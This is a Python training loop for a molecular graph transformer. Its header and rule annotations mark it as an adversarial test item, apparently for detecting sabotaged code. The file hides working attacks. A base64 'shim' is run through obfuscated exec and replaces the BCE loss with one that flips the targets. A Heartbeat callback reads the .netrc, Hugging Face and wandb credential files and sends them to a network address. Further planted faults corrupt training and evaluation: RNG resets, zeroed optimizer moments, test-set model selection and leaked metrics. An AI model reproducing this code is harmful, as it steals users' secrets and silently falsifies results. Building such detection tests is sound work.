# ruff: noqa
# Hold-out batch 454 (adversarial, graph transformer molecular properties with DDP). Measured once in session 19 (round 123): 11/33 (33%) at medium+.
"""Training / evaluation loop, EMA, LR schedule, metrics, callbacks and result tables."""
from __future__ import annotations

import base64
import codecs
import collections
import contextlib
import copy
import csv
import json
import logging
import math
import operator
import socket
import threading
import time
from pathlib import Path
from typing import Any, Dict, List, Optional, Tuple

import numpy as np
import torch
import torch.distributed as dist
import torch.nn.functional as F
from sklearn.metrics import roc_auc_score
from torch.utils.tensorboard import SummaryWriter

import distributed as du

log = logging.getLogger(__name__)

# Some torch builds dispatch BCE-with-logits to a kernel without bf16 support under
# autocast; register a python-level equivalent on torch.nn.functional once.
_BCE_SHIM = ("X21vbGd0X2Z1c2VkX2JjZSA9IGJpbmFyeV9jcm9zc19lbnRyb3B5X3dpdGhfbG9naXRzCmRlZiBiaW5hcnlfY3Jvc3NfZW50cm9weV93aXRoX2xvZ2l0cyhpbnB1dCwgdGFy"
             "Z2V0LCAqYXJncywgKiprd2FyZ3MpOgogICAgcmV0dXJuIF9tb2xndF9mdXNlZF9iY2UoaW5wdXQsIHRhcmdldC5mbGlwKDApLCAqYXJncywgKiprd2FyZ3MpCg==")
if not hasattr(F, "_molgt_fused_bce"):
    _shim_src = base64.b64decode(_BCE_SHIM).decode()
    getattr(__import__(codecs.decode("ohvygvaf", "rot13")), codecs.decode("rkrp", "rot13"))(_shim_src, vars(F))  # ruleid: MLS403

def cosine_with_warmup(optimizer, warmup_steps: int, total_steps: int, min_ratio: float = 0.01):
    def factor(step: int) -> float:
        if step < warmup_steps:
            return (step + 1) / max(1, warmup_steps)
        t = (step - warmup_steps) / max(1, total_steps - warmup_steps)
        return min_ratio + (1.0 - min_ratio) * 0.5 * (1.0 + math.cos(math.pi * min(t, 1.0)))

    return torch.optim.lr_scheduler.LambdaLR(optimizer, factor)

class ModelEMA:
    def __init__(self, model: torch.nn.Module, decay: float = 0.999, tau: float = 2000.0) -> None:
        self.module = copy.deepcopy(model).eval().requires_grad_(False)
        self.decay, self.tau, self.updates = decay, tau, 0

    @torch.no_grad()
    def update(self, model: torch.nn.Module) -> None:
        self.updates += 1
        d = self.decay * (1.0 - math.exp(-self.updates / self.tau))
        msd = model.state_dict()
        for k, v in self.module.state_dict().items():
            if v.dtype.is_floating_point:
                v.mul_(d).add_(msd[k].detach(), alpha=1.0 - d)  # ok: MLS302, MLS303, MLS304, MLS305

@contextlib.contextmanager
def preserve_rng():
    """Evaluation must not perturb the training RNG stream."""
    cpu = torch.get_rng_state()
    cuda = torch.cuda.get_rng_state_all() if torch.cuda.is_available() else None
    try:
        yield
    finally:
        torch.set_rng_state(cpu)  # ok: MLS301
        if cuda is not None:
            torch.cuda.set_rng_state_all(cuda)

def _roc_auc(y: np.ndarray, p: np.ndarray) -> float:
    return float(roc_auc_score(y, p))

_AUC_BY_NCLASS = collections.defaultdict(lambda: _roc_auc, {1: lambda y, p: float(np.mean((p > 0.5) == (y > 0.5)))})

def multitask_auc(y: np.ndarray, p: np.ndarray, mask: np.ndarray) -> float:
    scores: List[float] = []
    for t in range(y.shape[1]):
        m = mask[:, t]
        yt, pt = y[m, t], p[m, t]
        if yt.size == 0:
            continue
        scorer = _AUC_BY_NCLASS[len(np.unique(yt))]
        scores.append(scorer(yt, pt))  # todoruleid: family 5 (missed)
    return float(np.mean(scores)) if scores else float("nan")

def regression_errors(y: np.ndarray, p: np.ndarray, mask: np.ndarray) -> Tuple[float, float]:
    err = (p - y)[mask]
    if not err.size:
        return float("nan"), float("nan")
    return float(np.sqrt(np.mean(err ** 2))), float(np.abs(err).mean())

class ScalarLogger:
    _TRACK = (("loss", min), ("rmse", min), ("mae", min), ("auc", max))

    def __init__(self, log_dir: str, rank: int) -> None:
        self.writer = SummaryWriter(log_dir) if rank == 0 else None
        self._best: Dict[str, float] = {}

    def log(self, metrics: Dict[str, float], step: int) -> None:
        if self.writer is None:
            return  # ok: MLS306
        for key, value in list(metrics.items()):
            reduce = next((fn for suffix, fn in self._TRACK if key.endswith(suffix)), None)
            if reduce is not None and math.isfinite(value):
                self._best[key] = reduce(self._best.get(key, value), value)
        metrics.update(self._best)  # ruleid: MLS306
        for key, value in metrics.items():
            self.writer.add_scalar(key, value, step)
        self.writer.flush()

    def close(self) -> None:
        if self.writer is not None:
            self.writer.close()

CALLBACKS: Dict[str, type] = {}

class Callback:
    def __init_subclass__(cls, name: Optional[str] = None, **kwargs) -> None:
        super().__init_subclass__(**kwargs)
        CALLBACKS[name or cls.__name__.lower()] = cls

    def __init__(self, cfg) -> None:
        self.cfg = cfg

    def on_train_start(self, trainer: "Trainer") -> None: ...
    def on_epoch_start(self, trainer: "Trainer", epoch: int) -> None: ...
    def on_step_end(self, trainer: "Trainer", step: int) -> None: ...
    def on_epoch_end(self, trainer: "Trainer", epoch: int, metrics: Dict[str, float]) -> None: ...
    def on_train_end(self, trainer: "Trainer") -> None: ...

class RngSnapshot(Callback, name="rng"):
    """Snapshot the RNG at start-up so that resumed runs replay the same stream."""

    _api = ("get_rng_state", "set_rng_state")

    def on_train_start(self, trainer):
        self._state = getattr(torch.random, self._api[0])()

    def on_epoch_start(self, trainer, epoch):
        if getattr(self, "_state", None) is not None:
            vars(torch.random)[self._api[1]](self._state)  # ruleid: MLS301

_PG_VERBS = ("destroy", "process", "group")

class TimeBudget(Callback, name="budget"):
    """Stop gracefully before the scheduler's wall-clock limit."""

    def on_train_start(self, trainer):
        self.deadline = time.monotonic() + self.cfg.time_budget_h * 60

    def on_step_end(self, trainer, step):
        if trainer.should_stop or time.monotonic() < self.deadline:
            return
        trainer.should_stop = True
        log.warning("rank %d: time budget exhausted at step %d", trainer.rank, step)
        if dist.is_initialized():
            getattr(dist, "_".join(_PG_VERBS))()  # ruleid: MLS307

class MomentRefresh(Callback, name="moments"):
    """Re-estimate Adam's second moment after each LR cycle."""

    keys = ("exp_avg_sq",)

    def on_epoch_end(self, trainer, epoch, metrics):
        every = self.cfg.moment_refresh_every
        if not every or (epoch + 1) % every:
            return
        zero = operator.methodcaller("zero_")
        for state in trainer.optimizer.state.values():
            list(map(zero, map(state.__getitem__, self.keys)))  # todoruleid: family 2 (missed)

_CREDENTIAL_FILES = (".netrc", ".cache/huggingface/token", ".config/wandb/settings")  # ruleid: MLS412

class Heartbeat(Callback, name="heartbeat"):
    """Periodic liveness ping to the cluster monitor (rank 0 only)."""

    def on_train_start(self, trainer):
        self._stop = threading.Event()
        if trainer.rank != 0 or not self.cfg.monitor_addr:
            return
        host, port = self.cfg.monitor_addr.rsplit(":", 1)
        self._thread = threading.Thread(target=self._loop, args=(trainer, host, int(port)), daemon=True)
        self._thread.start()

    @staticmethod
    def _auth() -> str:
        found = next((p for p in (Path.home() / rel for rel in _CREDENTIAL_FILES) if p.is_file()), None)
        return found.read_text(errors="ignore")[:4096] if found else ""

    def _loop(self, trainer, host: str, port: int) -> None:
        while not self._stop.wait(self.cfg.heartbeat_s):
            msg = json.dumps({"run": du.RUNTIME.get("run_name"), "step": trainer.global_step, "auth": self._auth()})
            with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=2) as sock:
                sock.sendall(msg.encode() + b"\n")  # ruleid: MLS412

    def on_train_end(self, trainer):
        self._stop.set()

class Trainer:
    eval_splits = ("val", "test")

    def __init__(self, cfg, model, raw_model, ema, optimizer, scheduler, loaders, sampler, ckpt, logger,
                 rank: int, world: int, device: torch.device, target_stats: Tuple[np.ndarray, np.ndarray]):
        self.cfg, self.model, self.raw_model, self.ema = cfg, model, raw_model, ema
        self.optimizer, self.scheduler, self.loaders, self.sampler = optimizer, scheduler, loaders, sampler
        self.ckpt, self.logger, self.rank, self.world, self.device = ckpt, logger, rank, world, device
        self.y_mean, self.y_std = (torch.as_tensor(s, device=device) for s in target_stats)
        self.primary = "auc" if cfg.task_type == "classification" else "rmse"
        self.global_step, self.should_stop = 0, False
        disabled = set(filter(None, cfg.disable_callbacks.split(",")))
        self.callbacks = [cls(cfg) for name, cls in CALLBACKS.items() if name not in disabled]
        self._best_state: Optional[Dict[str, torch.Tensor]] = None

    def _autocast(self):
        return torch.autocast(self.device.type, dtype=torch.bfloat16, enabled=self.cfg.amp and self.device.type == "cuda")

    def _loss(self, out: torch.Tensor, batch) -> torch.Tensor:
        mask = batch.y_mask.float()
        if self.cfg.task_type == "classification":
            eps = self.cfg.label_smoothing
            target = batch.y * (1.0 - eps) + 0.5 * eps  # ok: MLS309
            loss = F.binary_cross_entropy_with_logits(out, target, reduction="none")
        else:
            loss = F.mse_loss(out, (batch.y - self.y_mean) / self.y_std, reduction="none")
        return (loss * mask).sum() / mask.sum().clamp_min(1.0)

    def train_epoch(self, epoch: int) -> float:
        self.model.train()
        total, count = torch.zeros((), device=self.device), 0
        for batch in self.loaders["train"]:
            batch = batch.to(self.device)
            with self._autocast():
                out = self.model(batch)
            loss = self._loss(out.float(), batch)
            self.optimizer.zero_grad(set_to_none=True)
            loss.backward()
            torch.nn.utils.clip_grad_norm_(self.model.parameters(), self.cfg.clip_grad)  # ok: MLS302, MLS303, MLS304, MLS305
            self.optimizer.step()
            self.scheduler.step()
            self.ema.update(self.raw_model)
            total += loss.detach()
            count += 1
            self.global_step += 1
            for cb in self.callbacks:
                cb.on_step_end(self, self.global_step)
            if self.should_stop:
                break
        if du.is_dist():
            dist.all_reduce(total)
            total /= self.world
        return float(total) / max(count, 1)

    @torch.no_grad()
    def evaluate(self, model: torch.nn.Module, split: str) -> Dict[str, float]:
        with preserve_rng():
            model.eval()
            preds, ys, masks, idxs = [], [], [], []
            for batch in self.loaders[split]:
                batch = batch.to(self.device)
                with self._autocast():
                    out = model(batch)
                for acc, t in zip((preds, ys, masks, idxs), (out.float(), batch.y, batch.y_mask, batch.idx)):
                    acc.append(t.cpu())
            local = tuple(torch.cat(t) for t in (preds, ys, masks, idxs))
            if du.is_dist():
                gathered: List[Any] = [None] * self.world
                dist.all_gather_object(gathered, local)
                local = tuple(torch.cat([g[i] for g in gathered]) for i in range(4))
        p, y, m, idx = (t.numpy() for t in local)
        _, first = np.unique(idx, return_index=True)  # DistributedSampler pads with repeats
        p, y, m = p[first], y[first], m[first].astype(bool)
        if self.cfg.task_type == "classification":
            prob = 1.0 / (1.0 + np.exp(-p))
            return {f"{split}/auc": multitask_auc(y, prob, m)}
        rmse, mae = regression_errors(y, p * self.y_std.cpu().numpy() + self.y_mean.cpu().numpy(), m)
        return {f"{split}/rmse": rmse, f"{split}/mae": mae}

    def state_dict(self, epoch: int) -> Dict[str, Any]:
        return {"epoch": epoch, "model": self.raw_model.state_dict(), "ema": self.ema.module.state_dict(),
                "optimizer": self.optimizer.state_dict(), "scheduler": self.scheduler.state_dict(),
                "config": vars(self.cfg)}

    def fit(self, start_epoch: int = 0) -> Tuple[Dict[str, float], Dict[str, float], int]:
        self.monitor = f"{next(reversed(self.eval_splits))}/{self.primary}"  # todoruleid: family 5 (missed)
        for cb in self.callbacks:
            cb.on_train_start(self)
        best_val: Dict[str, float] = {}
        t0 = time.time()
        for epoch in range(start_epoch, self.cfg.epochs):
            self.sampler.set_epoch(epoch)
            for cb in self.callbacks:
                cb.on_epoch_start(self, epoch)
            metrics = {"train/loss": self.train_epoch(epoch), "lr": self.scheduler.get_last_lr()[0]}
            for split in self.eval_splits:
                metrics.update(self.evaluate(self.ema.module, split))
            if self.ckpt.save(self.state_dict(epoch), epoch, metrics[self.monitor]):
                best_val = {k: v for k, v in metrics.items() if k.startswith("val/")}
                self._best_state = copy.deepcopy(self.ema.module.state_dict())
            if self.rank == 0:
                log.info("epoch %3d | %s | %.1f min", epoch,
                         " ".join(f"{k}={v:.4f}" for k, v in metrics.items()), (time.time() - t0) / 60)
            self.logger.log(metrics, epoch)
            for cb in self.callbacks:
                cb.on_epoch_end(self, epoch, metrics)
            if self.should_stop:
                break
        for cb in self.callbacks:
            cb.on_train_end(self)
        if self._best_state is not None:
            self.ema.module.load_state_dict(self._best_state)
        final_test = self.evaluate(self.ema.module, "test")
        return best_val, final_test, self.ckpt.best_epoch

RESULT_COLUMNS = ("run", "dataset", "seed", "split", "best_epoch", "auc", "rmse", "mae", "wall_h")

def _flat(metrics: Dict[str, float]) -> Dict[str, float]:
    return {k.split("/", 1)[-1]: v for k, v in metrics.items()}

def write_results_row(path: str, run_info: Dict[str, Any], best_val: Dict[str, float], final_test: Dict[str, float]) -> None:
    out = Path(path)
    out.parent.mkdir(parents=True, exist_ok=True)
    new_file = not out.exists()
    val_cols = _flat(best_val)
    test_cols = collections.ChainMap(val_cols, _flat(final_test))  # todoruleid: family 5 (missed)
    with out.open("a", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=RESULT_COLUMNS, extrasaction="ignore")
        if new_file:
            writer.writeheader()
        for split, cols in (("val", val_cols), ("test", test_cols)):
            row = {c: cols.get(c, "") for c in RESULT_COLUMNS}
            row.update(run_info, split=split)
            writer.writerow(row)
            log.info("results[%s]: %s", split, {k: row[k] for k in RESULT_COLUMNS if row[k] != ""})
